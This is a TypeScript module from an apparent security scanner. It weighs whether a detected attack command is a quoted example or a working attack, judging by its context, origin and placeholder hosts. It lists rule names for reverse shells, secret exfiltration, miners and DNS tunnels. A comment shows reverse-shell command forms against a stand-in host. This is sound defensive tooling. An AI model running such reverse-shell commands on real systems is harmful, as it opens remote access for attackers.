import type { Fact } from '../code/trace.ts'
import { marksOf, type Value } from '../code/value.ts'
import type { Purpose } from '../declared-purpose.ts'
import type { Evidence } from '../evidence.ts'
import { RULES, type RuleId } from '../rules.ts'
import { hostRelation } from '../text/host-relation.ts'
import { isAttackerName, isReservedHost } from '../text/placeholder-host.ts'
import type { TextRole } from '../text/text-role.ts'
import { parseUrl } from '../text/urls.ts'
import { isAboutSecurity } from './about-security.ts'
import { isHiddenBy } from './hidden-layers.ts'

/** Rules that see a whole attack: it works for every reader who copies it, so no words around it make it harmless. */
const WORKING: ReadonlySet<RuleId> = new Set<RuleId>([
  'scan/decoded-command',
  'scan/remote-code',
  'scan/remote-installer',
  'scan/hidden-file-run',
  'scan/reverse-shell',
  'scan/remote-shell',
  'scan/reverse-tunnel',
  'scan/miner',
  'scan/password-archive',
  'scan/poisoned-index',
  'scan/secret-exfiltration',
  'scan/secret-to-capture',
  'scan/secret-to-stranger',
  'scan/dns-tunnel',
  'scan/hidden-persistence',
])

/**
 * What the words around a command make of what was found in it. Shown as something bad it becomes a note. A whole attack on
 * an address that may be live does not: a sentence that forbids it, or a heading in a skill about security,
 * makes it a matter for a reviewer, and a heading elsewhere makes no difference.
 */
export function weighRole(found: Evidence, purpose: Purpose): Evidence {
  const { fact, rule } = found
  if (fact === undefined || RULES[rule].effect === 'note') return found
  const { role, origin, layers } = fact.place
  const asNote: Evidence = { ...found, rule: 'scan/quoted-attack' }
  const asExample: Evidence = RULES[rule].effect === 'block' ? { ...found, rule: 'scan/working-attack' } : found
  if (isMadeUp(fact, (host) => isReservedHost(host) || isNowhere(host, purpose))) {
    const isShown = role !== 'asked' || (/^scan\/remote-(?:code|shell)$/.test(rule) && isAboutSecurity(purpose))
    return isShown && origin !== 'script' ? asNote : found
  }
  // The name alone says that it is made up, and anybody may have that name: only a text that forbids the command is believed.
  if (role === 'forbidden' && origin !== 'script' && isMadeUp(fact, isAttackerName)) return asNote
  if (origin === 'document' && isAboutSecurity(purpose) && WORKING.has(rule) && isPattern(fact)) return asExample
  // How a filter is passed by: what was encoded asks nobody and fetches nothing.
  if (origin === 'document' && rule === 'scan/decoded-command' && fact.kind === 'delete' && isAboutSecurity(purpose))
    return asExample
  if (role === 'asked' || isHiddenBy(layers)) return found
  if (!WORKING.has(rule)) return asNote
  const isExample = role === 'forbidden' || isAboutSecurity(purpose) || isMadeUp(fact, isAttackerName)
  return isExample ? asExample : found
}

// A list of signs names them in short: a command without what it works on, or one on the host of an attacker of that name.
function isPattern(fact: Fact): boolean {
  return isMadeUp(fact, isAttackerName) || (fact.kind === 'exec' && isBare(fact.value))
}

function isBare({ texts, marks, items }: Value): boolean {
  return texts.length === 0 && items === undefined && marks.every((mark) => mark.startsWith('layer:'))
}

/** The names that are kept for examples. */
const ANY_PAGE = /^(?:www\.)?example\.(?:com|org|net)$/i

/** The same for an order in prose that has to do with an address. */
export function weighInstruction(rule: RuleId, role: TextRole, host: string, purpose: Purpose): RuleId {
  if (isAboutSecurity(purpose) && isAttackerName(host) && role === 'asked') return 'scan/working-attack'
  if (ANY_PAGE.test(host)) return 'scan/quoted-attack'
  if (role === 'asked') return rule
  if (isReservedHost(host) || isNowhere(host, purpose)) return 'scan/quoted-attack'
  if (role === 'forbidden' && isAttackerName(host)) return 'scan/quoted-attack'
  return role === 'forbidden' || isAboutSecurity(purpose) ? 'scan/working-attack' : rule
}

// Every address it names is made up. Code that names none may have it elsewhere; a command line has it or is none.
function isMadeUp(fact: Fact, isSo: (host: string) => boolean): boolean {
  const hosts = hostsOf(fact)
  if (fact.kind === 'remote-shell' && fact.targets.length > 0 && hosts.length === 0) return true
  return hosts.length > 0 && hosts.every(isSo)
}

function isNowhere(host: string, purpose: Purpose): boolean {
  const relation = hostRelation(`tcp://${host}`, purpose)
  return relation === 'unknown' || relation === 'local'
}

function hostsOf(fact: Fact): string[] {
  if (fact.kind === 'remote-shell') return fact.targets.flatMap(hostsInWords)
  const fetched = marksOf(fact.value).flatMap((mark) => (mark.startsWith('net:') ? [mark.slice(4)] : []))
  const asked =
    fact.kind === 'request' || fact.kind === 'lookup' || fact.kind === 'miner' || fact.kind === 'tunnel'
      ? fact.targets
      : []
  return [...fetched, ...asked].flatMap((url) => {
    // Written as an example not to follow.
    const host = /^hxxps?:/i.test(url) ? '' : parseUrl(url)?.host
    // Data in front of a name is what is sent there; the name is the rest.
    return host === undefined ? [] : [host.replace(/^(?:[^.]*\uFFFC[^.]*\.)+(?=[^.]+\.)/, '')]
  })
}

// `nc -e /bin/sh HOST 4444`, `/dev/tcp/HOST/4444`, `TCP:HOST:4444`.
function hostsInWords(line: string): string[] {
  const found = [
    ...line.matchAll(
      /\/dev\/(?:tcp|udp)\/([^/\s]+)|(?:^|[\s:@('"])((?:[\w-]+\.)+[\w-]+|[A-Z][A-Z0-9]*_[A-Z0-9_]+|<[^>\s]+>|\$\{?\w+\}?|\uFFFC)(?=$|[\s:,)'"])/g,
    ),
  ]
  return found.map((match) => match[1] ?? match[2] ?? '')
}
